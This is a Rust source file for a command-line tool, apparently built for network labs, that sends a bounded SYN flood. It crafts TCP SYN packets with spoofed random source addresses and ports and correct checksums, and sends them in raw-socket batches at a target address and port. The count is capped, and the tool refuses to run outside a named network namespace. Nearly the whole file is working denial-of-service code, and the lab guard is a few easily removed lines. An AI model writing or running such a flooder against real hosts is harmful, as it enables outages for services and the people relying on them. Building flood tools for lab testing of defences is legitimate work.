//! lab-synflood: a bounded SYN flood for the lab. Sends N TCP SYNs to VIP:PORT from random source addresses inside
//! a given IPv4 network and random ports, through a raw socket (IP_HDRINCL) in the namespace it runs in, in
//! sendmmsg batches, and prints how many it sent and at what rate. Only for addresses inside a lab's namespaces.
//!
//! `lab-synflood --dst 10.99.0.100:80 --src-net 10.200.0.0/16 --count 3000000 [--pps N]`
use std::net::{Ipv4Addr, SocketAddrV4};
use std::process::ExitCode;
use std::time::{Duration, Instant};

const BATCH: usize = 256;
const PKT_LEN: usize = 40;

fn main() -> ExitCode {
    match run() {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("lab-synflood: {e}");
            ExitCode::FAILURE
        }
    }
}

struct Args {
    dst: SocketAddrV4,
    net: u32,
    prefix: u32,
    count: u64,
    pps: Option<u64>,
}

fn args() -> Result<Args, String> {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let flag = |name: &str| argv.iter().position(|a| a == name).and_then(|i| argv.get(i + 1)).cloned();
    let dst: SocketAddrV4 = flag("--dst")
        .ok_or("--dst VIP:PORT is required")?
        .parse()
        .map_err(|_| "--dst must be an IPv4 VIP:PORT".to_string())?;
    let src = flag("--src-net").ok_or("--src-net A.B.C.D/LEN is required")?;
    let (addr, len) = src.split_once('/').ok_or("--src-net must be A.B.C.D/LEN")?;
    let net: Ipv4Addr = addr.parse().map_err(|_| format!("bad --src-net address {addr:?}"))?;
    let prefix: u32 = len.parse().ok().filter(|l| (8..=30).contains(l)).ok_or("--src-net length must be 8..=30")?;
    let count: u64 = flag("--count").ok_or("--count N is required")?.parse().map_err(|_| "bad --count")?;
    if count == 0 || count > 100_000_000 {
        return Err("--count must be 1..=100000000 (a lab flood is bounded)".into());
    }
    let pps = flag("--pps").map(|p| p.parse::<u64>().map_err(|_| "bad --pps")).transpose()?;
    Ok(Args { dst, net: u32::from(net), prefix, count, pps })
}

/// One's-complement sum of 16-bit words.
fn sum16(data: &[u8], mut acc: u32) -> u32 {
    for c in data.chunks(2) {
        acc += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
    }
    acc
}

fn fold(mut acc: u32) -> u16 {
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    !(acc as u16)
}

/// A SYN from src:sport to dst, with correct IP and TCP checksums (the real's kernel checks them).
fn syn(buf: &mut [u8; PKT_LEN], src: u32, sport: u16, dst: &SocketAddrV4, seq: u32) {
    buf.fill(0);
    buf[0] = 0x45;
    buf[2..4].copy_from_slice(&(PKT_LEN as u16).to_be_bytes());
    buf[6] = 0x40; // DF
    buf[8] = 64;
    buf[9] = 6;
    buf[12..16].copy_from_slice(&src.to_be_bytes());
    buf[16..20].copy_from_slice(&dst.ip().octets());
    let ip_sum = fold(sum16(&buf[..20], 0));
    buf[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    let tcp = &mut buf[20..];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dst.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 0x50;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&src.to_be_bytes());
    pseudo[4..8].copy_from_slice(&dst.ip().octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
    let tcp_sum = fold(sum16(&buf[20..], sum16(&pseudo, 0)));
    buf[36..38].copy_from_slice(&tcp_sum.to_be_bytes());
}

/// Refuses to flood unless it runs in a named network namespace (`ip netns add`, as labs and tests create theirs,
/// under /run/netns): never in the machine's own network, whose routes reach real interfaces.
fn in_lab_namespace() -> Result<(), String> {
    use std::os::unix::fs::MetadataExt;
    let me = std::fs::metadata("/proc/self/ns/net").map_err(|e| format!("reading /proc/self/ns/net: {e}"))?;
    let named = std::fs::read_dir("/run/netns")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| std::fs::metadata(e.path()).ok())
        .any(|m| m.dev() == me.dev() && m.ino() == me.ino());
    if !named {
        return Err("refusing to run outside a named network namespace: run it inside a lab's \
                    (`ip netns exec NS lab-synflood ...`)"
            .into());
    }
    Ok(())
}

fn run() -> Result<(), String> {
    let a = args()?;
    in_lab_namespace()?;
    // SAFETY: plain socket(2); the fd is closed at exit.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(format!("raw socket: {} (needs root)", std::io::Error::last_os_error()));
    }
    let mut to: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    to.sin_family = libc::AF_INET as u16;
    to.sin_addr.s_addr = u32::from(*a.dst.ip()).to_be();
    let mut rng: u64 = 0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id());
    let mut next = || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    let host_mask = (1u32 << (32 - a.prefix)) - 1;
    let mut bufs = vec![[0u8; PKT_LEN]; BATCH];
    let start = Instant::now();
    let mut sent: u64 = 0;
    while sent < a.count {
        let n = BATCH.min((a.count - sent) as usize);
        for b in bufs.iter_mut().take(n) {
            let r = next();
            // A host address of the network (never its network or broadcast address).
            let host = ((r as u32) & host_mask).clamp(1, host_mask - 1);
            syn(b, (a.net & !host_mask) | host, 1024 + ((r >> 32) as u16 % 60000), &a.dst, (r >> 16) as u32);
        }
        let mut iov: Vec<libc::iovec> = bufs
            .iter_mut()
            .take(n)
            .map(|b| libc::iovec { iov_base: b.as_mut_ptr().cast(), iov_len: PKT_LEN })
            .collect();
        let mut msgs: Vec<libc::mmsghdr> = iov
            .iter_mut()
            .map(|v| {
                // SAFETY: an all-zero msghdr is valid; the pointers set below outlive the call.
                let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
                m.msg_hdr.msg_name = (&mut to as *mut libc::sockaddr_in).cast();
                m.msg_hdr.msg_namelen = size_of::<libc::sockaddr_in>() as u32;
                m.msg_hdr.msg_iov = v;
                m.msg_hdr.msg_iovlen = 1;
                m
            })
            .collect();
        // SAFETY: msgs holds n initialised headers whose buffers live until the call returns.
        let r = unsafe { libc::sendmmsg(fd, msgs.as_mut_ptr(), n as u32, 0) };
        if r < 0 {
            let e = std::io::Error::last_os_error();
            if e.raw_os_error() == Some(libc::ENOBUFS) || e.kind() == std::io::ErrorKind::WouldBlock {
                std::thread::sleep(Duration::from_micros(200));
                continue;
            }
            return Err(format!("sendmmsg: {e}"));
        }
        sent += r as u64;
        if let Some(pps) = a.pps {
            let due = Duration::from_secs_f64(sent as f64 / pps as f64);
            if let Some(wait) = due.checked_sub(start.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
    let secs = start.elapsed().as_secs_f64();
    println!("sent {sent} SYNs to {} in {secs:.2} s ({:.0} packets/s)", a.dst, sent as f64 / secs);
    // SAFETY: closing our own fd.
    unsafe { libc::close(fd) };
    Ok(())
}
